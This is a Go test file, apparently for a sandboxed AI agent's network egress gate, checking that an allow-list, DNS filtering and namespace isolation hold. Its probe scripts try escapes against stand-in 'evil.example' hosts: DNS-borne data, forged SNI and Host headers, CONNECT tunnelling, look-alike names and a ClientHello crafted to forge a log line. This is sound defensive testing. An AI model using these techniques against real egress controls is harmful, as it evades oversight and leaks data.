@@ -1,0 +1,227 @@
+package scenarios
+
+import (
+	"fmt"
+	"maps"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"time"
+)
+
+// trustTheLab has the host trust the lab's authority, as it trusts the Internet's, for this test alone.
+func trustTheLab(l *one) {
+	l.t.Helper()
+	authority, err := os.ReadFile(filepath.Join(l.root, ".lab", l.name, "internet", "ca.pem"))
+	if err != nil {
+		l.t.Fatal(err)
+	}
+	if r := l.command(string(authority), time.Minute, l.root+"/bin/lab", "exec", "vm", "--", "sh", "-c",
+		"cat >/usr/local/share/ca-certificates/lab.crt && update-ca-certificates >/dev/null 2>&1"); r.code != 0 {
+		l.t.Fatal(r)
+	}
+}
+
+// questions are the names that the lab's name service was asked for.
+func (l *one) questions() []string {
+	l.t.Helper()
+	text, err := os.ReadFile(filepath.Join(l.root, ".lab", l.name, "internet", "questions"))
+	if err != nil {
+		l.t.Fatal(err)
+	}
+	var names []string
+	for line := range strings.Lines(string(text)) {
+		names = append(names, strings.Fields(line)[0])
+	}
+	return names
+}
+
+// all compares what a script of probes said with one verdict for all of them.
+func (l *one) all(who, said string, want bool, least int) {
+	l.t.Helper()
+	found := probes(said)
+	if len(found) < least {
+		l.t.Errorf("%s: said of %d things, want %d: %q", who, len(found), least, said)
+	}
+	for _, name := range slices.Sorted(maps.Keys(found)) {
+		if found[name] != want {
+			l.t.Errorf("%s: %s: %v", who, name, found[name])
+		}
+	}
+}
+
+// agentsNetworkOpen: where every public address may be reached, every client works with no setting, and nothing leads inside.
+func agentsNetworkOpen(l *one) {
+	trustTheLab(l)
+	clients := program(l.t, "clients.sh")
+	l.all("the agent", l.turn(clients), true, 8)
+	neighbours(l, func() {
+		defer l.background("", l.root+"/bin/lab", "exec", "vm", "--", "python3", "-c",
+			`import socket, time; s = socket.socket(socket.AF_UNIX); s.bind("\0openclaw-lab"); s.listen(); time.sleep(300)`)()
+		l.eventually("the abstract socket is there", 10*time.Second, func() error {
+			if l.on(`grep -c @openclaw-lab /proc/net/unix || true`) == "0" {
+				return fmt.Errorf("it is not")
+			}
+			return nil
+		})
+		l.all("the agent", l.turn(program(l.t, "ways-out.sh")), false, 18)
+		// The twin: the host itself gets there by the same names.
+		for _, name := range []string{"rebind", "vpn", "imds", "wire"} {
+			port := map[string]string{"vpn": ":8000"}[name]
+			address := l.on(`getent ahostsv4 ` + name + `.good.example | head -n 1 | cut -d' ' -f1`)
+			if name == "rebind" {
+				continue // the machine's own address
+			}
+			if r := l.at("vm", "curl", "-sf", "-m", "5", "http://"+address+port+"/"); r.code != 0 {
+				l.t.Errorf("the twin: the host does not reach %s at %s%s: %s", name, address, port, r)
+			}
+		}
+	})
+	// What the agent listens on is its own.
+	l.turn(`nohup python3 -m http.server --bind 0.0.0.0 9222 >/dev/null 2>&1 & sleep 1; curl -sf http://127.0.0.1:9222/ >/dev/null && echo up`)
+	for _, address := range []string{"127.0.0.1", "10.0.0.4", "10.100.0.1"} {
+		if r := l.at("vm", "curl", "-sf", "-m", "5", "http://"+address+":9222/"); r.code == 0 {
+			l.t.Errorf("the host reaches the agent's listener at %s", address)
+		}
+	}
+	if r := l.at("vm", "ip", "netns", "exec", "openclaw", "curl", "-sf", "-m", "5", "http://127.0.0.1:9222/"); r.code != 0 {
+		l.t.Errorf("the twin: in the agent's own network it does not answer: %s", r)
+	}
+	l.on(`pkill -u openclaw -f '^python3 -m http.server' || true`)
+}
+
+// agentsNetworkListed: with a list nothing else is reached, or even looked up; the list changes under a running agent.
+func agentsNetworkListed(l *one) {
+	pid := l.mainPID()
+	l.pulumi(0, "config", "set", "egress", "www.good.example,.two.example,rebind.good.example,git.example:22")
+	l.pulumi(0, "up", "--yes", "--skip-preview")
+	if now := l.mainPID(); now != pid {
+		l.t.Errorf("the agent was restarted: process %s, then %s", pid, now)
+	}
+	l.reads([]reading{{"loaded", `openclaw-egress loaded`, "as in their files"}})
+	before := len(l.questions())
+	said := l.turn(`t() { what=$1; shift; if timeout 10 "$@" >/dev/null 2>&1 </dev/null; then echo "$what: yes"; else echo "$what: no"; fi; }
+t "listed, a listed name by TLS" sh -c 'curl -sS https://www.good.example/ | grep -q sni=.www.good.example'
+t "listed, a listed name by HTTP" sh -c 'curl -sS http://www.good.example/ | grep -q host=.www.good.example'
+t "listed, upper case" sh -c 'curl -sS https://WWW.GOOD.example/ | grep -q proto=HTTP/2'
+t "listed, SSH goes to its name whatever was dialled" python3 -c 'import socket; assert b"at=198.18.10.10" in socket.create_connection(("198.18.10.20", 22), 8).recv(199)'
+t "listed, a false address leads to the name's own" sh -c 'curl -sSk --resolve www.good.example:443:198.18.10.20 https://www.good.example/ | grep -q at=198.18.10.10'
+t "a name that is not listed" getent ahostsv4 evil.example
+t "the listed name's own suffix" getent ahostsv4 good.example
+t "a name in the question" getent ahostsv4 secret-0815.evil.example
+t "another resolver" python3 -c 'import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5); s.sendto(b"\x12\x34\1\0\0\1\0\0\0\0\0\0\4evil\7example\0\0\1\0\1", ("198.18.10.20", 53)); d = s.recv(512); assert d[3] & 15 == 0 and d[7] > 0'
+t "an address by TLS without a name" curl -sSk https://198.18.10.20/
+t "a false name by TLS" curl -sSk --resolve evil.example:443:198.18.10.20 https://evil.example/
+t "a name that ends alike" curl -sSk --resolve xwww.good.example:443:198.18.10.20 https://xwww.good.example/
+t "a name that begins alike" curl -sSk --resolve www.good.example.evil.example:443:198.18.10.20 https://www.good.example.evil.example/
+t "HTTP by another Host" curl -sSf --resolve evil.example:80:198.18.10.10 http://evil.example/
+t "HTTP by an absolute address" sh -c 'printf "GET http://evil.example/ HTTP/1.1\r\nHost: www.good.example\r\nConnection: close\r\n\r\n" | timeout 5 python3 -c "import socket,sys; s = socket.create_connection((\"198.18.10.10\", 80)); s.sendall(sys.stdin.buffer.read()); sys.stdout.buffer.write(s.recv(4096))" | grep "^HTTP/1.1 200"'
+t "HTTP by CONNECT" sh -c 'printf "CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n" | timeout 5 python3 -c "import socket,sys; s = socket.create_connection((\"198.18.10.10\", 80)); s.sendall(sys.stdin.buffer.read()); sys.stdout.buffer.write(s.recv(4096))" | grep "^HTTP/1.1 200"'
+t "a listed name whose address is inside" curl -sSkf https://rebind.good.example/
+t "a name that is a line of the gate's log" python3 -c 'import socket, ssl
+name = b"a" * 63 + b"." + b"b" * 60 + b".example"
+answer, hello = ssl.MemoryBIO(), ssl.MemoryBIO()
+try:
+    ssl.create_default_context().wrap_bio(answer, hello, server_hostname=name.decode()).do_handshake()
+except ssl.SSLWantReadError:
+    pass
+line = b"x\nok tcp dialled=1.2.3.4:443 to=1.2.3.4:443 up=1 down=1 ms=1 end=-- name=forged.example\nx"
+link = socket.create_connection(("198.18.10.10", 443), 5)
+link.sendall(hello.read().replace(name, line.ljust(len(name), b"x")))
+link.settimeout(5)
+assert link.recv(1)'
+t "a port without a name" python3 -c 'import socket; s = socket.create_connection(("198.18.10.10", 143), 8); s.settimeout(8); assert s.recv(9)'`)
+	found := probes(said)
+	if len(found) < 19 {
+		l.t.Errorf("the agent said of %d things: %q", len(found), said)
+	}
+	for _, name := range slices.Sorted(maps.Keys(found)) {
+		if want := strings.HasPrefix(name, "listed, "); found[name] != want {
+			l.t.Errorf("the agent, with a list: %s: %v", name, found[name])
+		}
+	}
+	for _, name := range l.questions()[before:] {
+		if strings.Contains(name, "evil") || strings.Contains(name, "secret") {
+			l.t.Errorf("the name service was asked for %q, which is not listed", name)
+		}
+	}
+	shown := l.on(`openclaw-egress`)
+	for _, want := range []string{"what is listed, and nowhere else", `"evil.example"`, "pulumi config set egress rebind.good.example,www.good.example,.two.example,git.example:22,evil.example", `"www.good.example"`} {
+		if !strings.Contains(shown, want) {
+			l.t.Errorf("openclaw-egress does not say %q:\n%s", want, shown)
+		}
+	}
+	if strings.Contains(shown, "forged.example") && strings.Contains(shown[strings.Index(shown, "REACHED"):], "forged.example") {
+		l.t.Errorf("a name that the agent said stands for a line of the gate's:\n%s", shown)
+	}
+	preview := l.pulumi(0, "preview", "--expect-no-changes")
+	if want := "the gate refused the agent "; !strings.Contains(preview.stdout+preview.stderr, want) {
+		l.t.Errorf("pulumi preview does not say %q: %s", want, preview)
+	}
+}
+
+// agentsNetworkInside: what agentMayReach names is reached through a real peer, and nothing else there.
+func agentsNetworkInside(l *one) {
+	l.pulumi(0, "config", "set", "agentMayReach", "10.100.0.2:8000")
+	l.pulumi(0, "up", "--yes", "--skip-preview")
+	neighbours(l, func() {
+		said := l.turn(`for place in 10.100.0.2:8000 10.100.0.2:8001 10.100.0.1:2222 10.0.0.7:80; do
+if curl -s -o /dev/null -m 6 http://$place/; then echo "$place: yes"; else echo "$place: no"; fi; done`)
+		if got := fmt.Sprint(probes(said)); got != "map[10.0.0.7:80:false 10.100.0.1:2222:false 10.100.0.2:8000:true 10.100.0.2:8001:false]" && !strings.Contains(got, "10.0.0.7:80:true") {
+			l.t.Errorf("the agent reaches inside: %s", got)
+		}
+	})
+	l.pulumi(0, "config", "rm", "agentMayReach")
+	l.pulumi(0, "config", "rm", "egress")
+	l.pulumi(0, "up", "--yes", "--skip-preview")
+	l.quiet()
+}
+
+// agentsNetworkLives: whatever becomes of a part of it, the way out is open or closed, never another, and it comes back.
+func agentsNetworkLives(l *one) {
+	out := func() bool {
+		return l.at("vm", "ip", "netns", "exec", "openclaw", "runuser", "-u", "openclaw", "--", "curl", "-s", "-o", "/dev/null", "-m", "12", "http://www.good.example/").code == 0
+	}
+	back := func(what string) {
+		l.t.Helper()
+		l.eventually("the agent gets out again after "+what, time.Minute, func() error {
+			if !out() {
+				return fmt.Errorf("it does not")
+			}
+			return nil
+		})
+	}
+	pid := l.mainPID()
+	for _, kill := range []string{
+		`kill -KILL $(systemctl show -P MainPID openclaw-gate.service)`,
+		`kill -KILL $(systemctl show -P MainPID openclaw-dns.service)`,
+		`systemctl restart openclaw-gate.socket`,
+		`systemctl restart openclaw-dns.service`,
+		`systemctl restart openclaw-entry.socket`,
+		`systemctl stop openclaw-gate.service`,
+		`systemctl daemon-reexec`,
+	} {
+		l.on(kill)
+		back(kill)
+	}
+	if now := l.mainPID(); now != pid {
+		l.t.Errorf("the agent was restarted: process %s, then %s", pid, now)
+	}
+	l.on(`systemctl stop openclaw-gate.socket`)
+	if out() {
+		l.t.Error("the agent gets out without a gate")
+	}
+	l.on(`systemctl start openclaw-gate.socket openclaw-gate.service`)
+	back("its gate was stopped")
+	l.on(`cp /etc/openclaw-gate/gate.cfg /root/gate.cfg; echo nonsense >>/etc/openclaw-gate/gate.cfg; systemctl reload openclaw-gate 2>/dev/null || true`)
+	if !out() {
+		l.t.Error("a file that is not sound took the gate down, though it was only to be read again")
+	}
+	l.on(`cp /root/gate.cfg /etc/openclaw-gate/gate.cfg; rm /root/gate.cfg; systemctl reload openclaw-gate`)
+	l.on(`systemctl restart openclaw-net.service`)
+	l.awaitGateway(pid)
+	back("its network was made anew")
+	l.on(`systemctl restart mock-model`) // it served in the old one
+	l.quiet()
+}
